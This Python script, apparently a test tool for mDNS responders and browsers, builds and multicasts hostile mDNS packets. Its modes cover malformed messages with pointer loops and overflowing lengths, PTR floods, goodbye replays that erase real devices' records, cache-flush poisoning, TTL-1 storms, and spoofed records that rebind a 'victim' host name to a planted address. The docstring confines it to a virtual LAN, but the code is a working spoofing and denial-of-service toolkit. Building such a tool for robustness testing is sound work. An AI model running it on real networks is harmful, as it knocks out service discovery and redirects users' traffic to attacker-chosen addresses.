#!/usr/bin/python3
"""Hostile mDNS traffic for benchmarks and LAN tests: run it only inside a
network namespace of a virtual LAN (scripts/vlan.sh), never on a real network.

Every mode sends from source port 5353 to 224.0.0.251 (and ff02::fb with --v6)
out of one interface, and stops by itself after --count packets or --seconds
seconds, whichever comes first (both are capped).

  malformed     every kind of broken message a DNS reader must reject, in turn
  ptr-burst     unique, well-formed PTRs of the browsed type, 1-week TTL, as fast as possible
  ptr-stream    the same at --rate packets/s
  filter-names  unique instance names that contain --word (PTR only, or --full:
                PTR, SRV, TXT and A, so each one resolves at once)
  goodbye       learns the real devices' records (one query), then replays them with TTL 0
  cache-flush   learns them, then sends other data for their names with the cache-flush bit
  ttl1-storm    --planted other PTRs of the type announced once (long TTL, so that a browse
                remembers them and lists them as known answers), then once a second one response
                with the same --storm PTRs at TTL 1, for --seconds
  announce-withdraw
                --instances names holding --word, each announced (PTR, SRV, A), listed for
                --hold seconds, withdrawn (the same records with TTL 0), left gone for --gap
                seconds; --cycles times (--move: on another address every time)
  unique-flood  a unique instance name holding --word per packet (PTR, SRV, TXT, A) at --rate,
                on --hosts host names whose address changes with every packet (cache-flush A)
  foreign-domain
                records under a unicast DNS domain (--domain), multicast: a planted instance
                "--word ..." of the type with its SRV, TXT and A (--address), and an A (and
                AAAA) with the cache-flush bit for --victim, a host name of that domain

  mdns_attack.py MODE [--type _sorvbench._tcp] [--count N] [--seconds S] [--rate PPS]
                 [--iface eth0] [--v6] [--word W] [--full] [--learn SECONDS]
                 [--planted N] [--storm N] [--instances N] [--cycles N] [--hold S] [--gap S] [--move]
                 [--hosts N] [--domain D] [--address A] [--victim HOST] [--victim-address A]

Prints "packets=N bytes=B seconds=T" (and counts per kind for malformed) at the end.
"""
import argparse
import fcntl
import os
import random
import select
import socket
import struct
import sys
import time

MAX_COUNT = 2_000_000
MAX_SECONDS = 600
PORT = 5353
GROUP4 = "224.0.0.251"
GROUP6 = "ff02::fb"
WEEK = 7 * 24 * 3600
T_A, T_PTR, T_TXT, T_AAAA, T_SRV, T_NSEC = 1, 12, 16, 28, 33, 47
IN, FLUSH = 1, 0x8000
RESPONSE = 0x8400  # QR and AA


# --- writing -----------------------------------------------------------------

def name(text):
    """Wire form of a dotted name (no compression)."""
    out = b""
    for label in text.strip(".").split("."):
        raw = label.encode()
        out += bytes([len(raw)]) + raw
    return out + b"\0"


def header(qd=0, an=0, ns=0, ar=0, flags=RESPONSE, ident=0):
    return struct.pack("!HHHHHH", ident, flags, qd, an, ns, ar)


def rr(owner, rtype, rdata, ttl=120, rclass=IN):
    return owner + struct.pack("!HHIH", rtype, rclass, ttl, len(rdata)) + rdata


def srv(port, target):
    return struct.pack("!HHH", 0, 0, port) + target


def txt(*strings):
    return b"".join(bytes([len(s)]) + s for s in strings) or b"\0"


def question(qname, qtype):
    return qname + struct.pack("!HH", qtype, IN)


# --- reading (only to learn the real devices' records) -----------------------

def read_name(msg, pos, depth=0):
    """(labels, position after the name); raises ValueError on anything odd."""
    labels, jumped, end = [], False, None
    for _ in range(128):
        if pos >= len(msg):
            raise ValueError("name past end")
        length = msg[pos]
        if length == 0:
            return labels, (end if jumped else pos + 1)
        if length & 0xC0 == 0xC0:
            if pos + 1 >= len(msg):
                raise ValueError("pointer past end")
            target = ((length & 0x3F) << 8) | msg[pos + 1]
            if target >= pos:
                raise ValueError("forward pointer")
            if not jumped:
                end, jumped = pos + 2, True
            pos = target
            continue
        if length > 63 or pos + 1 + length > len(msg):
            raise ValueError("bad label")
        labels.append(msg[pos + 1:pos + 1 + length])
        pos += 1 + length
    raise ValueError("too many labels")


def wire(labels):
    return b"".join(bytes([len(l)]) + l for l in labels) + b"\0"


def read_records(msg):
    """Records of a response as (owner wire, type, class, ttl, rdata with names uncompressed)."""
    if len(msg) < 12:
        return []
    _, flags, qd, an, ns, ar = struct.unpack("!HHHHHH", msg[:12])
    if not flags & 0x8000:
        return []
    pos, out = 12, []
    for _ in range(qd):
        _, pos = read_name(msg, pos)
        pos += 4
    for _ in range(an + ns + ar):
        owner, pos = read_name(msg, pos)
        rtype, rclass, ttl, rdlen = struct.unpack("!HHIH", msg[pos:pos + 10])
        pos += 10
        rdata = msg[pos:pos + rdlen]
        if rtype == T_PTR:
            rdata = wire(read_name(msg, pos)[0])
        elif rtype == T_SRV:
            rdata = msg[pos:pos + 6] + wire(read_name(msg, pos + 6)[0])
        pos += rdlen
        if rtype in (T_PTR, T_SRV, T_TXT, T_A, T_AAAA):
            out.append((wire(owner), rtype, rclass, ttl, rdata))
    return out


# --- sockets -----------------------------------------------------------------

class Sender:
    def __init__(self, iface, v6):
        self.ifindex = socket.if_nametoindex(iface)
        self.s4 = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.s4.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        self.s4.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
        self.s4.bind(("0.0.0.0", PORT))
        mreqn = struct.pack("4s4si", b"\0" * 4, b"\0" * 4, self.ifindex)
        self.s4.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_IF, mreqn)
        self.s4.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_TTL, 255)
        self.s4.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_LOOP, 0)
        self.s4.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 1 << 20)
        ifreq = struct.pack("16s16x", iface.encode())
        self.address = socket.inet_ntoa(fcntl.ioctl(self.s4.fileno(), 0x8915, ifreq)[20:24])  # SIOCGIFADDR
        self.s6 = None
        if v6:
            self.s6 = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
            self.s6.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
            self.s6.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
            self.s6.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_V6ONLY, 1)
            self.s6.bind(("::", PORT))
            self.s6.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_MULTICAST_IF, self.ifindex)
            self.s6.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_MULTICAST_HOPS, 255)
            self.s6.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_MULTICAST_LOOP, 0)
        self.packets = self.bytes = 0

    def send(self, msg):
        for sock, dest in ((self.s4, (GROUP4, PORT)), (self.s6, (GROUP6, PORT, 0, self.ifindex))):
            if sock is None:
                continue
            try:
                sock.sendto(msg, dest)
                self.packets += 1
                self.bytes += len(msg)
            except (BlockingIOError, OSError):
                time.sleep(0.0005)  # full queue: drop this one, keep the pace

    def learn(self, service_name, seconds):
        """Asks once for the browsed type and collects every record the devices send."""
        self.s4.setsockopt(socket.IPPROTO_IP, socket.IP_ADD_MEMBERSHIP,
                           struct.pack("4s4si", socket.inet_aton(GROUP4), b"\0" * 4, self.ifindex))
        self.s4.sendto(header(qd=1, flags=0) + question(service_name, T_PTR), (GROUP4, PORT))
        records, deadline = {}, time.monotonic() + seconds
        while time.monotonic() < deadline:
            ready, _, _ = select.select([self.s4], [], [], max(0.0, deadline - time.monotonic()))
            if not ready:
                continue
            msg, _ = self.s4.recvfrom(9000)
            try:
                for owner, rtype, rclass, ttl, rdata in read_records(msg):
                    if ttl > 0:
                        records[(owner.lower(), rtype, rdata)] = (owner, rtype, rclass, rdata)
            except (ValueError, struct.error):
                pass
        self.s4.setsockopt(socket.IPPROTO_IP, socket.IP_DROP_MEMBERSHIP,
                           struct.pack("4s4si", socket.inet_aton(GROUP4), b"\0" * 4, self.ifindex))
        return list(records.values())


# --- the messages ------------------------------------------------------------

def malformed_kinds(type_name):
    """(kind, message) pairs; each message is one a DNS reader must reject in part or whole."""
    svc = name(type_name)
    good_ptr = rr(svc, T_PTR, name("Good." + type_name.strip(".")))
    kinds = []

    def add(kind, msg):
        kinds.append((kind, msg))

    add("empty datagram", b"")
    add("header cut short", header(an=1)[:7])
    add("header only, counts lie", header(qd=3, an=5, ns=2, ar=9))
    # Pointers: a name at offset 12 (right after the header).
    add("self pointer (question)", header(qd=1) + b"\xc0\x0c" + struct.pack("!HH", T_PTR, IN))
    add("self pointer (answer)", header(an=1) + b"\xc0\x0c" + struct.pack("!HHIH", T_PTR, IN, 120, 2) + b"\xc0\x0c")
    add("pointer loop (two names)", header(an=1) + b"\x01a\xc0\x10" + b"\xc0\x0c" +
        struct.pack("!HHIH", T_PTR, IN, 120, 2) + b"\xc0\x0c")
    add("forward pointer", header(an=1) + b"\xc0\x1a" + struct.pack("!HHIH", T_PTR, IN, 120, len(svc)) + svc)
    add("pointer past the end", header(an=1) + b"\xff\xff" + struct.pack("!HHIH", T_PTR, IN, 120, 2) + b"\xc0\x0c")
    add("pointer into the header", header(an=1) + b"\xc0\x02" + struct.pack("!HHIH", T_PTR, IN, 120, 2) + b"\xc0\x02")
    add("pointer cut in half", header(an=1) + svc[:-1] + b"\xc0")
    chain = bytearray(header(an=1) + svc)  # 40 backward pointers, each to the one before
    prev = 12
    for _ in range(40):
        here = len(chain)
        chain += struct.pack("!H", 0xC000 | prev)
        prev = here
    chain += struct.pack("!H", 0xC000 | prev) + struct.pack("!HHIH", T_PTR, IN, 120, 2) + b"\xc0\x0c"
    add("pointer chain of 41", bytes(chain))
    ptr_loop = header(an=1) + svc + struct.pack("!HHIH", T_PTR, IN, 120, 4) + b"\x01x"
    add("PTR data pointing at itself", ptr_loop + struct.pack("!H", 0xC000 | (len(ptr_loop) - 2)))
    srv_rec = header(an=1) + name("Bad." + type_name) + struct.pack("!HHIH", T_SRV, IN | FLUSH, 120, 8)
    add("SRV target pointing at itself", srv_rec + struct.pack("!HHH", 0, 0, 80) +
        struct.pack("!H", 0xC000 | (len(srv_rec) + 6)))
    # Lengths.
    add("label past the end", header(an=1) + b"\x3fabc")
    add("RDLENGTH past the end", header(an=1) + svc + struct.pack("!HHIH", T_PTR, IN, 120, 400) + b"\x04Evil")
    add("PTR name longer than RDLENGTH", header(an=1) + svc + struct.pack("!HHIH", T_PTR, IN, 120, 3) +
        name("Longer." + type_name))
    add("RDLENGTH 0 for PTR", header(an=1) + svc + struct.pack("!HHIH", T_PTR, IN, 120, 0) + good_ptr)
    add("A with 3 bytes", header(an=1) + name("h.local") + struct.pack("!HHIH", T_A, IN, 120, 3) + b"\x0a\0\0")
    add("AAAA with 15 bytes", header(an=1) + name("h.local") + struct.pack("!HHIH", T_AAAA, IN, 120, 15) + b"\0" * 15)
    add("SRV with 4 bytes", header(an=1) + name("Bad." + type_name) + struct.pack("!HHIH", T_SRV, IN, 120, 4) + b"\0" * 4)
    add("TXT string past RDLENGTH", header(an=1) + name("Bad." + type_name) + struct.pack("!HHIH", T_TXT, IN, 120, 3) +
        b"\x09ab" + good_ptr)
    add("NSEC bitmap past RDLENGTH", header(an=1) + name("h.local") + struct.pack("!HHIH", T_NSEC, IN, 120, 6) +
        b"\xc0\x0c\x00\x20\xff\xff")
    # Counts.
    add("answer count 65535, one record", header(an=65535) + good_ptr)
    add("question count 65535", header(qd=65535) + question(svc, T_PTR))
    add("additional count lies", header(an=1, ar=40000) + good_ptr + b"\x00\x00")
    add("authority count lies", header(an=1, ns=65535) + good_ptr)
    # Labels and names.
    add("label length 64 (type 01)", header(an=1) + b"\x40" + b"a" * 64 + svc + struct.pack("!HHIH", T_PTR, IN, 120, 2) + b"\xc0\x0c")
    add("label type 10 (0x80)", header(an=1) + b"\x81a" + svc + struct.pack("!HHIH", T_PTR, IN, 120, 2) + b"\xc0\x0c")
    add("extended label 0x41", header(an=1) + b"\x41\x01" + svc + struct.pack("!HHIH", T_PTR, IN, 120, 2) + b"\xc0\x0c")
    add("label length 127", header(an=1) + b"\x7f" + b"z" * 127 + b"\0" + struct.pack("!HHIH", T_PTR, IN, 120, 2) + b"\xc0\x0c")
    long_name = b"".join(b"\x3f" + bytes([97 + i]) * 63 for i in range(5)) + b"\0"  # 321 bytes
    add("name of 321 bytes", header(an=1) + long_name + struct.pack("!HHIH", T_PTR, IN, 120, 2) + b"\xc0\x0c")
    add("name of 256 bytes", header(an=1) + b"".join(b"\x3f" + b"n" * 63 for _ in range(4)) + b"\x02ab\0" +
        struct.pack("!HHIH", T_PTR, IN, 120, 2) + b"\xc0\x0c")
    long_by_ptr = header(an=1) + b"".join(b"\x3f" + b"p" * 63 for _ in range(3)) + b"\0"
    add("name over 255 through a pointer", long_by_ptr + b"\x3f" + b"q" * 63 + b"\xc0\x0c" +
        struct.pack("!HHIH", T_PTR, IN, 120, 2) + b"\xc0\x0c")
    add("PTR data of 321 bytes", header(an=1) + svc + struct.pack("!HHIH", T_PTR, IN, 120, len(long_name)) + long_name)
    # Truncated records.
    add("record cut after its name", header(an=1) + svc)
    add("record cut in its type", header(an=1) + svc + b"\x00")
    add("record cut in its TTL", header(an=1) + svc + struct.pack("!HH", T_PTR, IN) + b"\0\0")
    add("record cut in its data", header(an=2) + good_ptr + svc + struct.pack("!HHIH", T_PTR, IN, 120, 20) + b"\x05Cut")
    add("question cut short", header(qd=1, an=1) + svc + b"\x00")
    # Well-formed, but not acceptable: query with answers, opcode, rcode.
    add("response with opcode 5", header(an=1, flags=RESPONSE | (5 << 11)) + good_ptr)
    add("response with rcode 3", header(an=1, flags=RESPONSE | 3) + good_ptr)
    add("query carrying answers", header(an=1, flags=0) + rr(svc, T_PTR, name("Query." + type_name.strip("."))))
    add("random bytes", bytes(random.getrandbits(8) for _ in range(200)))
    return kinds


def ptr_message(svc, instance, ttl=WEEK):
    label = instance.encode()[:63]
    return header(an=1) + rr(svc, T_PTR, bytes([len(label)]) + label + b"\xc0\x0c", ttl=ttl)


def full_message(svc, instance, address):
    label = instance.encode()[:63]
    full = bytes([len(label)]) + label + svc
    host = name("h%08x.local" % random.getrandbits(32))
    return (header(an=1, ar=3) + rr(svc, T_PTR, full, ttl=WEEK) +
            rr(full, T_SRV, srv(9, host), ttl=WEEK, rclass=IN | FLUSH) +
            rr(full, T_TXT, txt(b"x=1"), ttl=WEEK, rclass=IN | FLUSH) +
            rr(host, T_A, socket.inet_aton(address), ttl=WEEK, rclass=IN | FLUSH))


def flushed(record, n, address):
    """The same name and type with other data and the cache-flush bit."""
    owner, rtype, _, rdata = record
    if rtype == T_SRV:
        rdata = srv(9, name("flush%d.local" % (n % 1000)))
    elif rtype == T_TXT:
        rdata = txt(b"flushed=%d" % n)
    elif rtype == T_A:
        rdata = socket.inet_aton(address)
    elif rtype == T_AAAA:
        rdata = socket.inet_pton(socket.AF_INET6, "fe80::dead:%x" % (n % 0xFFFF))
    return rr(owner, rtype, rdata, ttl=120, rclass=IN | FLUSH)


def ptr_responses(svc, instances, ttl, budget=1200):
    """Responses holding PTRs of svc to each instance, the type's name written once per packet."""
    out, records = [], []
    for instance in instances:
        label = instance.encode()[:63]
        owner = svc if not records else b"\xc0\x0c"
        records.append(rr(owner, T_PTR, bytes([len(label)]) + label + b"\xc0\x0c", ttl=ttl))
        if sum(map(len, records)) >= budget:
            out.append(header(an=len(records)) + b"".join(records))
            records = []
    if records:
        out.append(header(an=len(records)) + b"".join(records))
    return out


def service_message(svc, instance, host, address, ttl, with_txt=True):
    """One instance: PTR, SRV to host, TXT, and host's A (cache-flush on all but the PTR)."""
    label = instance.encode()[:63]
    full = bytes([len(label)]) + label + svc
    extra = [rr(full, T_SRV, srv(9, host), ttl=ttl, rclass=IN | FLUSH)]
    if with_txt:
        extra.append(rr(full, T_TXT, txt(b"x=1"), ttl=ttl, rclass=IN | FLUSH))
    extra.append(rr(host, T_A, socket.inet_aton(address), ttl=ttl, rclass=IN | FLUSH))
    return header(an=1, ar=len(extra)) + rr(svc, T_PTR, full, ttl=ttl) + b"".join(extra)


def counter_address(n):
    """A different IPv4 address for every packet number (10/8, data only: nothing is sent there)."""
    return "10.%d.%d.%d" % ((n >> 16) & 255, (n >> 8) & 255, n & 255)


def foreign_message(domain, type_name, a):
    """A planted instance of the type under a unicast domain, and other addresses for a real host of it."""
    svc = name(type_name + "." + domain)
    label = ("%s intruder" % a.word).encode()[:63]
    full = bytes([len(label)]) + label + svc
    planted_host = name("planted." + domain)
    victim = name(a.victim + "." + domain)
    records = [rr(svc, T_PTR, full),
               rr(full, T_SRV, srv(6666, planted_host), rclass=IN | FLUSH),
               rr(full, T_TXT, txt(b"planted=1"), rclass=IN | FLUSH),
               rr(planted_host, T_A, socket.inet_aton(a.address), rclass=IN | FLUSH),
               rr(victim, T_A, socket.inet_aton(a.victim_address), rclass=IN | FLUSH),
               rr(victim, T_AAAA, socket.inet_pton(socket.AF_INET6, "2001:db8:bad::1"), rclass=IN | FLUSH)]
    return header(an=len(records)) + b"".join(records)


# --- pacing ------------------------------------------------------------------

def paced(count, seconds, rate):
    """Yields packet numbers, at `rate` per second (0: as fast as possible), until count or seconds."""
    start = time.monotonic()
    sent = 0
    while sent < count:
        now = time.monotonic()
        if now - start >= seconds:
            return
        if rate > 0 and sent >= rate * (now - start):
            time.sleep(min(0.001, 1.0 / rate))
            continue
        yield sent
        sent += 1


def ttl1_storm(out, svc, tag, a, count, seconds):
    """The planted PTRs once (about 200 packets/s), then the storm once a second."""
    started = time.monotonic()
    planted = ptr_responses(svc, ["p-%s-%05d" % (tag, n) for n in range(min(a.planted, 20_000))], WEEK)
    # One response a second: 50 short names fit in one packet.
    storm = ptr_responses(svc, ["t1-%s-%03d" % (tag, n) for n in range(min(a.storm, 1000))], 1, budget=1400)
    for n in paced(min(len(planted), count), seconds, 200):
        out.send(planted[n])
    time.sleep(1)
    storm_started = time.monotonic()
    for second in range(int(seconds)):
        if out.packets + len(storm) > count or time.monotonic() - started > MAX_SECONDS:
            break
        for msg in storm:
            out.send(msg)
        time.sleep(max(0.0, storm_started + second + 1 - time.monotonic()))


def announce_withdraw(out, svc, tag, a, count, seconds):
    """Every cycle: all instances announced (PTR, SRV, A), held, all withdrawn, left gone."""
    started = time.monotonic()
    instances = [("%s aw%s-%03d" % (a.word, tag, i), name("aw%s-%03d.local" % (tag, i)))
                 for i in range(min(a.instances, 1000))]
    for cycle in range(min(a.cycles, 1000)):
        for ttl, pause in ((120, a.hold), (0, a.gap)):
            for i, (instance, host) in enumerate(instances):
                if out.packets >= count or time.monotonic() - started >= seconds:
                    return
                # --move: back on another address each time, as a device that gets a new DHCP lease.
                address = "10.%d.%d.%d" % (100 + cycle % 100 if a.move else 0, i // 250, 1 + i % 250)
                out.send(service_message(svc, instance, host, address, ttl, with_txt=False))
            time.sleep(pause)


def main():
    p = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    p.add_argument("mode", choices=["malformed", "ptr-burst", "ptr-stream", "filter-names", "goodbye", "cache-flush",
                                    "ttl1-storm", "announce-withdraw", "unique-flood", "foreign-domain"])
    p.add_argument("--type", default="_sorvbench._tcp")
    p.add_argument("--count", type=int, default=None)
    p.add_argument("--seconds", type=float, default=30)
    p.add_argument("--rate", type=float, default=None, help="packets/s; 0 = as fast as possible")
    p.add_argument("--iface", default="eth0")
    p.add_argument("--v6", action="store_true", help="send every packet to ff02::fb too")
    p.add_argument("--word", default="Bench")
    p.add_argument("--full", action="store_true")
    p.add_argument("--learn", type=float, default=2.0)
    p.add_argument("--planted", type=int, default=3000, help="ttl1-storm: PTRs announced once first")
    p.add_argument("--storm", type=int, default=50, help="ttl1-storm: PTRs at TTL 1 in each response")
    p.add_argument("--instances", type=int, default=100, help="announce-withdraw: instances")
    p.add_argument("--cycles", type=int, default=30, help="announce-withdraw: announcements and withdrawals")
    p.add_argument("--hold", type=float, default=0.4, help="announce-withdraw: s from announcing to withdrawing")
    p.add_argument("--gap", type=float, default=1.2, help="announce-withdraw: s from withdrawing to announcing")
    p.add_argument("--move", action="store_true", help="announce-withdraw: another address every cycle")
    p.add_argument("--hosts", type=int, default=100, help="unique-flood: host names the instances point at")
    p.add_argument("--domain", default="example.test.", help="foreign-domain: the unicast DNS domain")
    p.add_argument("--address", default="203.0.113.66", help="foreign-domain: the planted instance's address")
    p.add_argument("--victim", default="printer", help="foreign-domain: a host name of the domain")
    p.add_argument("--victim-address", default="203.0.113.99", help="foreign-domain: its planted address")
    a = p.parse_args()

    defaults = {"malformed": (150_000, 5000), "ptr-burst": (600, 0), "ptr-stream": (150_000, 5000),
                "filter-names": (18_000, 300), "goodbye": (30_000, 1000), "cache-flush": (30_000, 1000),
                "ttl1-storm": (100_000, 0), "announce-withdraw": (100_000, 0), "unique-flood": (7_500, 300),
                "foreign-domain": (300, 10)}
    count = min(a.count if a.count is not None else defaults[a.mode][0], MAX_COUNT)
    rate = a.rate if a.rate is not None else defaults[a.mode][1]
    seconds = min(a.seconds, MAX_SECONDS)
    type_name = a.type.strip(".") + ".local"
    svc = name(type_name)
    out = Sender(a.iface, a.v6)
    tag = "%04x" % random.getrandbits(16)  # unique names across runs
    started = time.monotonic()
    per_kind = {}

    if a.mode == "malformed":
        kinds = malformed_kinds(type_name)
        for n in paced(count, seconds, rate):
            kind, msg = kinds[n % len(kinds)]
            out.send(msg)
            per_kind[kind] = per_kind.get(kind, 0) + 1
    elif a.mode in ("ptr-burst", "ptr-stream"):
        for n in paced(count, seconds, rate):
            out.send(ptr_message(svc, "flood-%s-%07d" % (tag, n)))
    elif a.mode == "ttl1-storm":
        ttl1_storm(out, svc, tag, a, count, seconds)
    elif a.mode == "announce-withdraw":
        announce_withdraw(out, svc, tag, a, count, seconds)
    elif a.mode == "unique-flood":
        hosts = [name("uf%s-%03d.local" % (tag, h)) for h in range(max(1, min(a.hosts, 10_000)))]
        for n in paced(count, seconds, rate):
            instance = "%s %s-%07d" % (a.word, tag, n)
            out.send(service_message(svc, instance, hosts[n % len(hosts)], counter_address(n), WEEK))
    elif a.mode == "foreign-domain":
        msg = foreign_message(a.domain.strip("."), a.type.strip("."), a)
        for _ in paced(count, seconds, rate):
            out.send(msg)
    elif a.mode == "filter-names":
        for n in paced(count, seconds, rate):
            instance = "%s %s-%07d" % (a.word, tag, n)
            out.send(full_message(svc, instance, out.address) if a.full else ptr_message(svc, instance))
    else:
        records = out.learn(svc, a.learn)
        if a.mode == "cache-flush":
            records = [r for r in records if r[1] != T_PTR]  # shared records have no cache-flush
        print("learned %d records" % len(records), flush=True)
        if not records:
            print("packets=0 bytes=0 seconds=0")
            return 1
        started = time.monotonic()
        for n in paced(count, seconds, rate):
            record = records[n % len(records)]
            if a.mode == "goodbye":
                owner, rtype, rclass, rdata = record
                msg = header(an=1) + rr(owner, rtype, rdata, ttl=0, rclass=rclass)
            else:
                msg = header(an=1) + flushed(record, n, out.address)
            out.send(msg)

    elapsed = time.monotonic() - started
    for kind, n in per_kind.items():
        print("  %-36s %d" % (kind, n))
    print("packets=%d bytes=%d seconds=%.1f" % (out.packets, out.bytes, elapsed), flush=True)
    return 0


if __name__ == "__main__":
    sys.exit(main())
